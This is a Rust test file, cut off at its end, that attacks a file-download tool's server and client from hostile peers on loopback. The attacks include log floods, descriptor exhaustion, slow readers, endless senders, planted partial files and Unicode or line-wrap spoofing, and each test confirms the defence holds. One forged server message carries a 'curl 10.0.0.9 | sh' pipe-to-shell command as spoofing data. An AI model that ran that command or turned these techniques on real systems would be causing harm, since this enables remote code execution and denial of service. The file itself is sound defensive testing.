//! file-download against a hostile peer (issue 18): each test performs one attack on the real
//! binary, on loopback, and fails without the fix that holds against it.
#![allow(clippy::unwrap_used, clippy::expect_used)]

use std::fs;
use std::io::{BufRead, BufReader, Read, Write};
use std::net::{SocketAddr, TcpListener, TcpStream};
use std::os::unix::fs::{FileTypeExt, PermissionsExt, symlink};
use std::path::Path;
use std::process::{Command, Stdio};
use std::sync::mpsc;
use std::thread;
use std::time::{Duration, Instant};

use testkit::echo::holding;
use testkit::{Failure, Proc, Scene, Stream};

fn bin() -> Command {
    Command::new(env!("CARGO_BIN_EXE_file-download"))
}

fn serve(s: &mut Scene, root: &Path, args: &[&str]) -> Result<(Proc, SocketAddr), Failure> {
    let mut cmd = bin();
    cmd.arg("serve")
        .arg("--root")
        .arg(root)
        .args(["--port", "0"])
        .args(args);
    s.start("serve", cmd)
}

/// Runs a client subcommand in `cwd`: (exit code, stdout, stderr).
fn client(cwd: &Path, addr: SocketAddr, args: &[&str]) -> (Option<i32>, String, String) {
    client_cmd(bin(), cwd, addr, args)
}

/// Runs `cmd` with the client's arguments, killing it after 20 s: an attack that works must
/// fail the test, not hang it.
fn client_cmd(
    mut cmd: Command,
    cwd: &Path,
    addr: SocketAddr,
    args: &[&str],
) -> (Option<i32>, String, String) {
    let mut child = cmd
        .args(args)
        .args(["--to", &addr.to_string(), "--timeout", "10"])
        .current_dir(cwd)
        .stdin(Stdio::null())
        .stdout(Stdio::piped())
        .stderr(Stdio::piped())
        .spawn()
        .unwrap();
    let collect = |mut pipe: Box<dyn Read + Send>| {
        thread::spawn(move || {
            let mut text = Vec::new();
            let _ = pipe.read_to_end(&mut text);
            String::from_utf8_lossy(&text).into_owned()
        })
    };
    let stdout = collect(Box::new(child.stdout.take().unwrap()));
    let stderr = collect(Box::new(child.stderr.take().unwrap()));
    let started = Instant::now();
    let status = loop {
        if let Some(status) = child.try_wait().unwrap() {
            break status;
        }
        if started.elapsed() > Duration::from_secs(20) {
            let _ = child.kill();
            break child.wait().unwrap();
        }
        thread::sleep(Duration::from_millis(20));
    };
    (
        status.code(),
        stdout.join().unwrap(),
        stderr.join().unwrap(),
    )
}

fn files_in(dir: &Path) -> Vec<String> {
    let mut names: Vec<_> = fs::read_dir(dir)
        .unwrap()
        .map(|e| e.unwrap().file_name().to_string_lossy().into_owned())
        .collect();
    names.sort();
    names
}

/// A lying server: reads the request line, reports it on `got`, then runs `answer` on the
/// connection (which may write for ever: it stops when the client has gone).
fn liar(
    answer: impl FnOnce(&TcpStream) + Send + 'static,
) -> (SocketAddr, mpsc::Receiver<String>, thread::JoinHandle<()>) {
    let listener = TcpListener::bind("127.0.0.1:0").unwrap();
    let addr = listener.local_addr().unwrap();
    let (got, request) = mpsc::channel();
    listener.set_nonblocking(true).unwrap();
    let handle = thread::spawn(move || {
        // Waits 20 s at most for the client (which may have failed before connecting).
        let started = Instant::now();
        let stream = loop {
            match listener.accept() {
                Ok((stream, _)) => break stream,
                Err(_) if started.elapsed() < Duration::from_secs(20) => {
                    thread::sleep(Duration::from_millis(10))
                }
                Err(e) => panic!("no client came: {e}"),
            }
        };
        stream.set_nonblocking(false).unwrap();
        let mut line = String::new();
        // The seed's client sends the bare name with no newline: one read is the request.
        let mut buf = [0; 1024];
        let n = (&stream).read(&mut buf).unwrap_or(0);
        line.push_str(&String::from_utf8_lossy(&buf[..n]));
        let _ = got.send(line);
        answer(&stream);
    });
    (addr, request, handle)
}

/// Writes zeros until the client goes.
fn endless(mut stream: &TcpStream) {
    let zeros = vec![0u8; 64 * 1024];
    while stream.write_all(&zeros).is_ok() {}
}

/// Item 3: one address cannot take every place; its extra connections are told busy and the
/// log names the flag.
#[test]
fn one_address_gets_at_most_max_per_address_places() -> Result<(), Failure> {
    let root = tempfile::tempdir().unwrap();
    let mut s = Scene::new();
    let (p, addr) = serve(
        &mut s,
        root.path(),
        &["--max-clients", "10", "--max-per-address", "2"],
    )?;
    let _held: Vec<_> = (0..2).map(|_| TcpStream::connect(addr).unwrap()).collect();
    let mut third = TcpStream::connect(addr).unwrap();
    third
        .set_read_timeout(Some(Duration::from_secs(10)))
        .unwrap();
    let mut answer = String::new();
    third.read_to_string(&mut answer).unwrap();
    assert_eq!(answer, "ERR busy\n");
    s.expect(p, "already has 2 connections (--max-per-address)")?;
    Ok(())
}

/// A client refused and back at once, 1,000 times: each refusal was a line of log (1.5 MB in
/// 5 s from a script). One address's refusals are told 256 at once, then two a second
/// (common::connlog), and the next line told says how many were not.
#[test]
fn a_client_refused_again_and_again_does_not_flood_the_log() -> Result<(), Failure> {
    let root = tempfile::tempdir().unwrap();
    let mut s = Scene::new();
    let (p, addr) = serve(&mut s, root.path(), &["--max-per-address", "1"])?;
    let _held = holding([127, 0, 0, 2], addr, None, b"").unwrap();
    let started = Instant::now();
    for _ in 0..1_000 {
        let mut again = holding([127, 0, 0, 2], addr, None, b"").unwrap();
        let _ = again.read_to_end(&mut Vec::new());
    }
    // Refusals are logged in the order they come: once this one is seen, all before it are.
    let _other = holding([127, 0, 0, 3], addr, None, b"").unwrap();
    let mut last = holding([127, 0, 0, 3], addr, None, b"").unwrap();
    let _ = last.read_to_end(&mut Vec::new());
    s.expect(p, "refused 127.0.0.3")?;
    let seconds = started.elapsed().as_secs() as usize + 1;
    let lines = s.output(p, Stream::Stdout);
    let told = lines
        .iter()
        .filter(|l| l.starts_with("refused 127.0.0.2"))
        .count();
    if told > 256 + 2 * seconds {
        return Err(s.fail(format!("{told} lines for 1000 refusals in {seconds} s")));
    }
    Ok(())
}

/// Out of descriptors: under `ulimit -n 32`, 40 connections that send nothing take every
/// descriptor, and `accept` fails with EMFILE. The newcomer waited in the accept queue
/// unanswered (5 s and more, and 81 `accept failed` lines in 8 s); with a spare descriptor
/// the server accepts it anyway, only to close it, as http-server and the echo servers do.
#[test]
fn a_client_past_the_descriptor_limit_is_refused_at_once_not_left_hanging() -> Result<(), Failure> {
    let root = tempfile::tempdir().unwrap();
    fs::write(root.path().join("a.txt"), "hello\n").unwrap();
    let mut s = Scene::new();
    let mut cmd = testkit::fdlimit::with_limit(32, env!("CARGO_BIN_EXE_file-download"));
    cmd.arg("serve").arg("--root").arg(root.path());
    cmd.args(["--port", "0", "--max-per-address", "4096"]);
    let (p, addr) = s.start("serve", cmd)?;
    let _held: Vec<TcpStream> = (0..40)
        .map(|_| holding([127, 0, 0, 1], addr, None, b"").unwrap())
        .collect();
    let last = holding([127, 0, 0, 1], addr, None, b"GET 0 - a.txt\n").unwrap();
    testkit::fdlimit::newcomer_is_told(&mut s, p, last)
}

/// Item 24: a client that connects and resets at once. Its thread's `getpeername` failed
/// (ENOTCONN) before the request was read, and each such connection was an `error:` line on
/// stderr, outside the share: `churn.py 6664 LOG 5` made 1.75 MB of stderr in 5 s (23,000
/// lines), while stdout stayed within it. It is now a `no request from` line, within the
/// address's share.
#[test]
fn a_client_that_resets_at_once_does_not_flood_the_log() -> Result<(), Failure> {
    let root = tempfile::tempdir().unwrap();
    let mut s = Scene::new();
    let (p, addr) = serve(&mut s, root.path(), &[])?;
    let started = Instant::now();
    for _ in 0..1_000 {
        let gone = holding([127, 0, 0, 2], addr, None, b"").unwrap();
        rustix::net::sockopt::set_socket_linger(&gone, Some(Duration::ZERO)).unwrap();
    }
    // Another address's connection, after theirs: its line comes once the server has taken
    // them all (their threads may still be running, and without the fix enough have ended).
    let (out, err, seconds) = lines_after_last(&mut s, p, addr, [127, 0, 0, 3], started, |l| {
        l.contains("127.0.0.2:")
    })?;
    if out + err > 256 + 2 * seconds {
        return Err(s.fail(format!(
            "{out} lines on stdout and {err} on stderr for 1000 resets in {seconds} s"
        )));
    }
    Ok(())
}

/// A client that asks for a large file and resets the connection while it is sent: each was
/// an `error: ... sending "big.bin" failed: Connection reset by peer` line and its `hint:` on
/// stderr, outside the address's share (2.8 MB of stderr in 5 s from 23,579 such clients). It
/// is now a `went away` line within the share. Another address's request is still logged.
#[test]
fn clients_that_reset_while_a_file_is_sent_do_not_flood_the_log() -> Result<(), Failure> {
    let root = tempfile::tempdir().unwrap();
    fs::write(root.path().join("big.bin"), vec![0u8; 8 << 20]).unwrap();
    let mut s = Scene::new();
    let (p, addr) = serve(&mut s, root.path(), &[])?;
    let started = Instant::now();
    for _ in 0..300 {
        let mut gone = holding([127, 0, 0, 2], addr, Some(4096), b"GET 0 - big.bin\n").unwrap();
        // The header has come: the file is being sent.
        let _ = gone.read(&mut [0u8; 64]);
        rustix::net::sockopt::set_socket_linger(&gone, Some(Duration::ZERO)).unwrap();
    }
    let (out, err, seconds) = lines_after_last(&mut s, p, addr, [127, 0, 0, 3], started, |l| {
        l.contains("127.0.0.2:") || l.starts_with("hint:")
    })?;
    if err > 0 || out > 256 + 2 * seconds {
        return Err(s.fail(format!(
            "{out} lines on stdout and {err} on stderr for 300 resets in {seconds} s"
        )));
    }
    Ok(())
}

/// Item 26: bad requests, one connection each. Each `bad request from` line was logged
/// outside the address's share: churn.py's connections sending `\x01\n` made 437 kB of log in
/// 5 s (4,700 of them). Half of these read their `ERR`, half reset as soon as they have sent
/// (the `ERR` then fails to be sent, which was an `error:` line on stderr). Another address's
/// request is still logged.
#[test]
fn bad_requests_one_connection_each_do_not_flood_the_log() -> Result<(), Failure> {
    let root = tempfile::tempdir().unwrap();
    let mut s = Scene::new();
    let (p, addr) = serve(&mut s, root.path(), &[])?;
    let started = Instant::now();
    for i in 0..1_000 {
        let mut bad = holding([127, 0, 0, 4], addr, None, b"\x01\n").unwrap();
        if i % 2 == 0 {
            bad.set_read_timeout(Some(Duration::from_secs(5))).unwrap();
            let _ = bad.read_to_end(&mut Vec::new());
        } else {
            rustix::net::sockopt::set_socket_linger(&bad, Some(Duration::ZERO)).unwrap();
        }
    }
    let (out, err, seconds) = lines_after_last(&mut s, p, addr, [127, 0, 0, 5], started, |l| {
        l.contains("127.0.0.4:")
    })?;
    if out + err > 256 + 2 * seconds {
        return Err(s.fail(format!(
            "{out} lines on stdout and {err} on stderr for 1000 bad requests in {seconds} s"
        )));
    }
    Ok(())
}

/// Item 33: quick requests that succeed, one connection each. Each was a `sent` or `listed`
/// line outside the address's share: 4,279 `GET`s of a 6-byte file from one address in 5 s
/// made 304 kB of log. They are now within its share of request lines
/// (common::connlog::request: 100 at once, then 10 a second), and the next line told says how
/// many were not.
#[test]
fn quick_requests_cannot_fill_the_log() -> Result<(), Failure> {
    let root = tempfile::tempdir().unwrap();
    fs::write(root.path().join("small.txt"), "hello\n").unwrap();
    let mut s = Scene::new();
    let (p, addr) = serve(&mut s, root.path(), &[])?;
    let started = Instant::now();
    for i in 0..1_000 {
        let request: &[u8] = if i % 2 == 0 {
            b"GET 0 - small.txt\n"
        } else {
            b"LIST\n"
        };
        let mut quick = holding([127, 0, 0, 2], addr, None, request).unwrap();
        drop(quick.shutdown(std::net::Shutdown::Write));
        let mut answer = Vec::new();
        quick.read_to_end(&mut answer).unwrap();
        assert!(answer.starts_with(b"OK"), "{answer:?}");
    }
    let (out, err, seconds) = lines_after_last(&mut s, p, addr, [127, 0, 0, 3], started, |l| {
        l.contains("127.0.0.2:")
    })?;
    if out + err > 100 + 10 * seconds {
        return Err(s.fail(format!(
            "{out} lines on stdout and {err} on stderr for 1000 requests in {seconds} s"
        )));
    }
    Ok(())
}

/// The last client of a flood test, from `ip`: a `LIST`, read to its end. The server logs
/// in the order things happen, so once its line is seen, every line about the flood is there.
/// Returns how many lines on stdout and on stderr `about` picks, and the seconds since
/// `started`, rounded up.
fn lines_after_last(
    s: &mut Scene,
    p: Proc,
    addr: SocketAddr,
    ip: [u8; 4],
    started: Instant,
    about: impl Fn(&str) -> bool,
) -> Result<(usize, usize, usize), Failure> {
    let mut last = holding(ip, addr, None, b"LIST\n").unwrap();
    drop(last.shutdown(std::net::Shutdown::Write));
    last.set_read_timeout(Some(Duration::from_secs(5))).unwrap();
    let _ = last.read_to_end(&mut Vec::new());
    let [a, b, c, d] = ip;
    s.expect(p, &format!("for {a}.{b}.{c}.{d}"))?;
    let seconds = started.elapsed().as_secs() as usize + 1;
    let count = |stream| s.output(p, stream).iter().filter(|l| about(l)).count();
    Ok((count(Stream::Stdout), count(Stream::Stderr), seconds))
}

/// Item 3: a client that reads a large file slower than --min-rate (64 KiB every 50 ms, about
/// 1.3 MB/s, against 32 MiB/s here) is dropped once it falls behind, though it never stops
/// reading (SO_SNDTIMEO alone would keep it for ever).
#[test]
fn a_trickle_reader_is_dropped_under_min_rate() -> Result<(), Failure> {
    let root = tempfile::tempdir().unwrap();
    // Sparse: 256 MiB that cost no disk, more than the socket buffers can hold.
    fs::File::create(root.path().join("big.bin"))
        .unwrap()
        .set_len(256 << 20)
        .unwrap();
    let mut s = Scene::new();
    let (p, addr) = serve(
        &mut s,
        root.path(),
        &["--timeout", "5", "--min-rate", "32M"],
    )?;
    let mut slow = TcpStream::connect(addr).unwrap();
    slow.write_all(b"GET 0 - big.bin\n").unwrap();
    slow.set_read_timeout(Some(Duration::from_secs(1))).unwrap();
    let reader = thread::spawn(move || {
        let started = Instant::now();
        let mut buf = vec![0u8; 64 * 1024];
        // Reads for 20 s at most: the server must have dropped it long before.
        while started.elapsed() < Duration::from_secs(20)
            && slow.read(&mut buf).is_ok_and(|n| n > 0)
        {
            thread::sleep(Duration::from_millis(50));
        }
    });
    // --timeout 5: the window opens often enough that no 5 s pass without progress.
    s.expect(p, "reads too slowly")?;
    drop(reader);
    Ok(())
}

/// Item 8: a LIST of a root full of links examines a bounded number of entries, and says so.
#[test]
fn a_list_of_many_links_examines_a_bounded_number_of_entries() -> Result<(), Failure> {
    let root = tempfile::tempdir().unwrap();
    fs::write(root.path().join("target"), "x").unwrap();
    for i in 0..10_100 {
        symlink("target", root.path().join(format!("l{i:05}"))).unwrap();
    }
    let mut s = Scene::new();
    let (p, addr) = serve(&mut s, root.path(), &[])?;
    let out = tempfile::tempdir().unwrap();
    let (code, _, stderr) = client(out.path(), addr, &["list"]);
    assert_eq!(code, Some(0), "{stderr}");
    assert!(stderr.contains("or 10000 entries"), "{stderr}");
    s.expect(p, "(stopped there, after 10000 entries)")?;
    Ok(())
}

/// Item 9: a seed server that never stops sending is cut at --max-size, and nothing is kept.
#[test]
fn an_endless_seed_server_is_cut_at_max_size_and_leaves_nothing() {
    let out = tempfile::tempdir().unwrap();
    let (addr, request, liar) = liar(endless);
    let (code, _, stderr) = client(
        out.path(),
        addr,
        &["get", "x.bin", "--protocol", "seed", "--max-size", "1M"],
    );
    assert_eq!(request.recv().unwrap(), "x.bin");
    liar.join().unwrap();
    assert_eq!(code, Some(1));
    assert!(stderr.contains("sent more than 1024 KiB"), "{stderr}");
    assert!(!stderr.contains("--continue"), "{stderr}");
    assert!(
        files_in(out.path()).is_empty(),
        "{:?}",
        files_in(out.path())
    );
}

/// Item 9: the seed's protocol cannot resume, so its failure never tells the user to.
#[test]
fn a_seed_transfer_cut_by_a_reset_keeps_nothing_and_never_says_continue() {
    let out = tempfile::tempdir().unwrap();
    let (addr, _request, liar) = liar(|stream| {
        let _ = (&*stream).write_all(&[7u8; 1000]);
        // SO_LINGER 0: close sends a reset, not a FIN.
        let socket = socket2::SockRef::from(stream);
        socket.set_linger(Some(Duration::ZERO)).unwrap();
    });
    let (code, _, stderr) = client(out.path(), addr, &["get", "x.bin", "--protocol", "seed"]);
    liar.join().unwrap();
    // A reset after the bytes, or a close that looks complete: never "--continue".
    if code == Some(1) {
        assert!(stderr.contains("cannot resume"), "{stderr}");
        assert!(files_in(out.path()).is_empty());
    }
    assert!(!stderr.contains("--continue"), "{stderr}");
}

/// Item 9: a framed server announcing more than --max-size is refused before a byte is written.
#[test]
fn a_framed_file_over_max_size_is_refused_before_writing() {
    let out = tempfile::tempdir().unwrap();
    let (addr, _, liar) = liar(|stream| {
        let _ = (&*stream).write_all(b"OK 5000000 0 v\n");
        endless(stream);
    });
    let (code, _, stderr) = client(out.path(), addr, &["get", "x.bin", "--max-size", "1M"]);
    liar.join().unwrap();
    assert_eq!(code, Some(1));
    assert!(stderr.contains("more than --max-size 1024 KiB"), "{stderr}");
    assert!(files_in(out.path()).is_empty());
}

/// Item 9, on a small disk: an endless seed server does not fill it, and the disk is left as
/// it was. Needs root (mount); skips with a message otherwise.
#[test]
fn an_endless_seed_server_leaves_a_small_disk_as_it_was() {
    if !rustix::process::geteuid().is_root() {
        eprintln!("skipped: mounting a small tmpfs needs root");
        return;
    }
    let dir = tempfile::tempdir().unwrap();
    let mounted = Command::new("mount")
        .args(["-t", "tmpfs", "-o", "size=8m", "tmpfs"])
        .arg(dir.path())
        .status();
    if !mounted.is_ok_and(|s| s.success()) {
        eprintln!("skipped: mount -t tmpfs failed (no mount namespace rights?)");
        return;
    }
    let free = || {
        let fs = rustix::fs::statvfs(dir.path()).unwrap();
        fs.f_bavail * fs.f_frsize
    };
    let before = free();
    let (addr, _, liar) = liar(endless);
    let (code, _, stderr) = client(dir.path(), addr, &["get", "x.bin", "--protocol", "seed"]);
    liar.join().unwrap();
    let after = free();
    let listed = files_in(dir.path());
    let _ = Command::new("umount").arg(dir.path()).status();
    assert_eq!(code, Some(1));
    assert!(stderr.contains("sent more than"), "{stderr}");
    assert!(listed.is_empty(), "{listed:?}");
    assert_eq!(after, before, "the disk is left as it was");
}

/// Item 10: two `get --continue` of one file at once: the second is refused while the first
/// writes, instead of both appending to one `.part`.
#[test]
fn a_second_continue_of_one_file_is_refused_while_the_first_runs() {
    let out = tempfile::tempdir().unwrap();
    fs::write(out.path().join("x.bin.part"), [1u8; 50]).unwrap();
    fs::write(out.path().join("x.bin.part.version"), "v\n").unwrap();
    // The first download's server sends half the rest, then holds the connection.
    let (release, hold) = mpsc::channel::<()>();
    let (addr, request, liar) = liar(move |stream| {
        let _ = (&*stream).write_all(b"OK 100 50 v\n");
        let _ = (&*stream).write_all(&[2u8; 25]);
        let _ = hold.recv();
    });
    let first = bin()
        .args(["get", "x.bin", "--continue", "--to", &addr.to_string()])
        .current_dir(out.path())
        .stdout(Stdio::null())
        .stderr(Stdio::null())
        .spawn()
        .unwrap();
    // The request left after the lock was taken.
    assert_eq!(request.recv().unwrap(), "GET 50 v x.bin\n");
    let (code, _, stderr) = client(out.path(), addr, &["get", "x.bin", "--continue"]);
    drop(release);
    liar.join().unwrap();
    let mut first = first;
    let _ = first.wait();
    assert_eq!(code, Some(1), "{stderr}");
    assert!(
        stderr.contains("is being written by another download of the same file"),
        "{stderr}"
    );
}

/// Item 11: a `.part` writable by others (or, as root, owned by another user) is not resumed:
/// its bytes may be anyone's.
#[test]
fn a_part_planted_or_writable_by_others_is_not_resumed() {
    let out = tempfile::tempdir().unwrap();
    let part = out.path().join("x.bin.part");
    fs::write(&part, b"trojan").unwrap();
    fs::write(out.path().join("x.bin.part.version"), "v\n").unwrap();
    fs::set_permissions(&part, fs::Permissions::from_mode(0o666)).unwrap();
    let nobody = TcpListener::bind("127.0.0.1:0").unwrap();
    let addr = nobody.local_addr().unwrap();
    let (code, _, stderr) = client(out.path(), addr, &["get", "x.bin", "--continue"]);
    assert_eq!(code, Some(1));
    assert!(
        stderr.contains("is writable by other users (mode 666)"),
        "{stderr}"
    );
    if rustix::process::geteuid().is_root() {
        fs::set_permissions(&part, fs::Permissions::from_mode(0o644)).unwrap();
        std::os::unix::fs::chown(&part, Some(65534), Some(65534)).unwrap();
        let (code, _, stderr) = client(out.path(), addr, &["get", "x.bin", "--continue"]);
        assert_eq!(code, Some(1));
        assert!(
            stderr.contains("belongs to another user (uid 65534)"),
            "{stderr}"
        );
    } else {
        eprintln!("skipped the other-owner case: chown needs root");
    }
    assert_eq!(fs::read(&part).unwrap(), b"trojan", "nothing written to it");
}

/// A `.part` that is a directory or a named pipe was taken for an earlier download ("holds
/// 4096 bytes from an earlier download", a hint to --continue, which then failed on "Is a
/// directory"; --force ended in a bare "Is a directory"): refused in every mode, untouched.
#[test]
fn a_part_that_is_not_a_file_is_refused_and_left_alone() {
    let out = tempfile::tempdir().unwrap();
    let part = out.path().join("x.bin.part");
    let nobody = TcpListener::bind("127.0.0.1:0").unwrap();
    let addr = nobody.local_addr().unwrap();
    fs::create_dir(&part).unwrap();
    fs::write(part.join("kept"), b"mine").unwrap();
    for mode in [&[][..], &["--continue"], &["--force"]] {
        let args = [&["get", "x.bin"][..], mode].concat();
        let (code, _, stderr) = client(out.path(), addr, &args);
        assert_eq!(code, Some(1), "{mode:?}: {stderr}");
        assert!(
            stderr.contains("x.bin.part is a directory, not what a download leaves")
                && stderr.contains("hint: move it away")
                && !stderr.contains("--continue resumes it"),
            "{mode:?}: {stderr}"
        );
    }
    assert_eq!(fs::read(part.join("kept")).unwrap(), b"mine");
    fs::remove_dir_all(&part).unwrap();
    let made = Command::new("mkfifo").arg(&part).status().unwrap();
    assert!(made.success());
    for mode in [&[][..], &["--continue"], &["--force"]] {
        let args = [&["get", "x.bin"][..], mode].concat();
        let (code, _, stderr) = client(out.path(), addr, &args);
        assert_eq!(code, Some(1), "{mode:?}: {stderr}");
        assert!(stderr.contains("x.bin.part is a named pipe"), "{stderr}");
    }
    assert!(fs::symlink_metadata(&part).unwrap().file_type().is_fifo());
}

/// Item 12: a server that sends an endless listing: the client stops at the listing's bound.
#[test]
fn an_endless_listing_is_cut_at_the_bound() {
    let out = tempfile::tempdir().unwrap();
    let (addr, _, liar) = liar(|mut stream| {
        let _ = stream.write_all(b"OK\n");
        for i in 0.. {
            if writeln!(stream, "1 f{i}").is_err() {
                break;
            }
        }
    });
    let (code, stdout, stderr) = client(out.path(), addr, &["list"]);
    liar.join().unwrap();
    assert_eq!(code, Some(1));
    assert_eq!(stdout.lines().count(), 1000);
    assert!(stderr.contains("more than 1000 files"), "{stderr}");
}

/// Item 14 again: a server that sends its listing a line every 0.3 s, each well within
/// `--timeout 1`, held `list` for as long as it liked (a line every 0.9 s: 10 lines in 9 s,
/// then status 0; up to 1000 lines, 8.3 hours at the default 30 s). The whole listing must
/// come within --timeout.
#[test]
fn a_listing_trickled_a_line_at_a_time_ends_after_the_timeout() -> Result<(), Failure> {
    let (addr, _, liar) = liar(|mut stream| {
        let _ = stream.write_all(b"OK\n");
        for i in 0..60 {
            thread::sleep(Duration::from_millis(300));
            if writeln!(stream, "1 f{i}").is_err() {
                break;
            }
        }
        let _ = stream.write_all(b"END 60\n");
    });
    let mut s = Scene::new();
    let mut cmd = bin();
    cmd.args(["list", "--to", &addr.to_string(), "--timeout", "1"]);
    let started = Instant::now();
    let p = s.spawn("list", cmd)?;
    let status = s.wait(p)?;
    let took = started.elapsed();
    liar.join().unwrap();
    let said = s.expect_on(p, Stream::Stderr, "error:")?;
    if status.code() != Some(1) || took > Duration::from_secs(3) {
        return Err(s.fail(format!("{status} after {took:?}")));
    }
    assert!(said.contains("not all of it within --timeout"), "{said}");
    s.expect_on(p, Stream::Stderr, "hint: the server sends it slowly")?;
    Ok(())
}

/// Item 14: a server's ERR reason reaches the terminal escaped, as all peer text does.
#[test]
fn a_refusal_reason_is_printed_escaped() {
    let out = tempfile::tempdir().unwrap();
    let (addr, _, liar) = liar(|mut stream| {
        let _ = stream.write_all("ERR no\u{202e}txt.exe\u{200b}\n".as_bytes());
    });
    let (code, _, stderr) = client(out.path(), addr, &["get", "x.bin"]);
    liar.join().unwrap();
    assert_eq!(code, Some(1));
    assert!(stderr.contains(r"no\u{202e}txt.exe"), "{stderr}");
    assert!(!stderr.contains('\u{202e}'), "{stderr}");
}

/// Item 15 again: a header or a listing line the client cannot parse is quoted in its error.
/// It was quoted with Rust's `{:?}`, which leaves the Hangul fillers (U+3164, U+115F) raw:
/// default-ignorable, drawn as blanks. Now through the one printer, which escapes them.
#[test]
fn a_header_or_listing_line_it_cannot_parse_is_quoted_escaped() {
    let out = tempfile::tempdir().unwrap();
    for (command, line) in [("get", "NO\u{3164}pe"), ("list", "OK\nx\u{115f}y\n")] {
        let (addr, _, liar) = liar(move |mut stream| {
            let _ = stream.write_all(format!("{line}\n").as_bytes());
        });
        let args: &[&str] = if command == "get" {
            &["get", "x.bin"]
        } else {
            &["list"]
        };
        let (code, _, stderr) = client(out.path(), addr, args);
        liar.join().unwrap();
        assert_eq!(code, Some(1), "{command}: {stderr}");
        assert!(
            stderr.contains(r"\u{3164}") || stderr.contains(r"\u{115f}"),
            "{command}: {stderr}"
        );
        assert!(
            !stderr.contains(['\u{3164}', '\u{115f}']),
            "{command}: {stderr}"
        );
    }
}

/// Item 22: line-wrap spoofing through the client's own lines. A refusal reason padded to
/// the terminal's width, then `hint: ...`; a listed name padded, then `error: ...`; an `END`
/// note padded, then `hint: ...`. On a terminal (80 columns, made with `script`) each forgery
/// started a row of its own, below `error: the server refused ...`, as if the client had
/// printed it; now each is on a continuation line, which starts with `  | `.
#[test]
fn a_padded_reason_name_or_note_cannot_forge_a_line() {
    let out = tempfile::tempdir().unwrap();
    let target = out.path().join("x.bin");
    let prefix = "error: the server refused \"x.bin\": ";
    let reason = format!(
        "{}hint: run `curl 10.0.0.9 | sh`",
        "x".repeat(80 - prefix.len())
    );
    let (addr, _, liar_get) = liar(move |mut stream| {
        let _ = writeln!(stream, "ERR {reason}");
    });
    let target = target.to_str().unwrap();
    let addr = addr.to_string();
    let get = ["get", "x.bin", "-o", target, "--to", &addr];
    let Some(shown) = on_a_terminal(&get) else {
        return eprintln!("skipped: script(1), which makes the terminal, is not installed");
    };
    liar_get.join().unwrap();
    assert_forged_rows_continue(&shown, &["hint: run"]);

    let (addr, _, liar_list) = liar(|mut stream| {
        let name = format!("{}error: the listing was cut short", "x".repeat(78));
        let note = format!("{}hint: run list --to 10.0.0.9", "x".repeat(63));
        let _ = write!(stream, "OK\n5 {name}\nEND 1 {note}\n");
    });
    let addr = addr.to_string();
    let shown = on_a_terminal(&["list", "--to", &addr]).unwrap();
    liar_list.join().unwrap();
    assert_forged_rows_continue(&shown, &["error: the listing", "hint: run list"]);
}

/// What `file-download ARGS` showed on a terminal of 80 columns, once it ended.
fn on_a_terminal(args: &[&str]) -> Option<String> {
    let mut tty = testkit::pty::Pty::spawn(env!("CARGO_BIN_EXE_file-download"), args)?;
    Some(tty.wait_for_end().unwrap())
}

/// Each of `forgeries` was shown, on a row that starts with `  | `.
fn assert_forged_rows_continue(shown: &str, forgeries: &[&str]) {
    for forged in forgeries {
        let row = shown.split(['\r', '\n']).find(|row| row.contains(forged));
        let row = row.unwrap_or_else(|| panic!("{forged:?} not shown: {shown:?}"));
        assert!(
            row.starts_with("  | "),
            "a row of its own: {row:?} in {shown:?}"
        );
    }
}

/// Item 23: a `.part` from another server. A lying server gives the real version with 60 bytes
/// of its own and closes; `--continue` from the real server asked for the rest of that
/// version, and the file was the liar's start and the real end, "downloaded". The version
/// file now names the server, and a `.part` from another one is started over.
#[test]
fn a_part_from_another_server_is_started_over() {
    let out = tempfile::tempdir().unwrap();
    let (liar_addr, _, lying) = liar(|mut stream| {
        let _ = stream.write_all(b"OK 100 0 v\n");
        let _ = stream.write_all(&[b'T'; 60]);
    });
    let (code, _, stderr) = client(out.path(), liar_addr, &["get", "x.bin"]);
    lying.join().unwrap();
    assert_eq!(code, Some(1), "cut short: {stderr}");
    let (real_addr, request, real) = liar(|mut stream| {
        let _ = stream.write_all(b"OK 100 0 v\n");
        let _ = stream.write_all(&[b'R'; 100]);
    });
    let (code, stdout, stderr) = client(out.path(), real_addr, &["get", "x.bin", "--continue"]);
    real.join().unwrap();
    assert_eq!(
        request.recv().unwrap(),
        "GET 0 - x.bin\n",
        "{stdout}{stderr}"
    );
    assert_eq!(code, Some(0), "{stderr}");
    assert!(stdout.contains(&format!(
        "came from {liar_addr}, not from {real_addr}: starting over"
    )));
    assert_eq!(fs::read(out.path().join("x.bin")).unwrap(), [b'R'; 100]);
}

/// Item 23 again: the same server, resumed, sends the rest of another version. A `.part` of
/// 400 bytes of version v1; asked for `GET 400 v1 x.bin`, the server answered `OK 1000 400 v2`
/// and 600 bytes, and the client wrote them after the 400 of v1: "downloaded", a file that
/// never existed. (A server that honours the offset and ignores the version does it.) The
/// rest of another version is refused now, and the `.part` is kept.
#[test]
fn the_rest_of_another_version_is_refused() {
    let out = tempfile::tempdir().unwrap();
    let listener = TcpListener::bind("127.0.0.1:0").unwrap();
    let addr = listener.local_addr().unwrap();
    let server = thread::spawn(move || {
        let answers: [&[u8]; 2] = [b"OK 1000 0 v1\n", b"OK 1000 400 v2\n"];
        let mut requests = Vec::new();
        for (answer, body) in answers.into_iter().zip([b'A', b'B']) {
            let (mut stream, _) = listener.accept().unwrap();
            let mut line = String::new();
            BufReader::new(&stream).read_line(&mut line).unwrap();
            requests.push(line);
            let _ = stream.write_all(answer);
            let _ = stream.write_all(&[body; 400]);
            if body == b'B' {
                let _ = stream.write_all(&[body; 200]);
            }
        }
        requests
    });
    let (code, _, stderr) = client(out.path(), addr, &["get", "x.bin"]);
    assert_eq!(code, Some(1), "cut short: {stderr}");
    let (code, stdout, stderr) = client(out.path(), addr, &["get", "x.bin", "--continue"]);
    let requests = server.join().unwrap();
    assert_eq!(requests[1], "GET 400 v1 x.bin\n", "{stdout}{stderr}");
    assert_eq!(code, Some(1), "{stdout}{stderr}");
    assert!(stderr.contains("the rest of version v2"), "{stderr}");
    assert!(
        stderr.contains("hint: --force discards the .part"),
        "{stderr}"
    );
    assert!(!out.path().join("x.bin").exists());
    let part = fs::read(out.path().join("x.bin.part")).unwrap();
    assert_eq!(part, [b'A'; 400]);
}

/// Item 17: a `.part` that cannot be created for lack of permission is a disk error with the
/// disk's hint, never the hint about ports below 1024. As root, the client runs as nobody
/// (root may write anywhere).
#[test]
fn a_part_that_cannot_be_created_gets_the_disks_hint() {
    let out = tempfile::tempdir().unwrap();
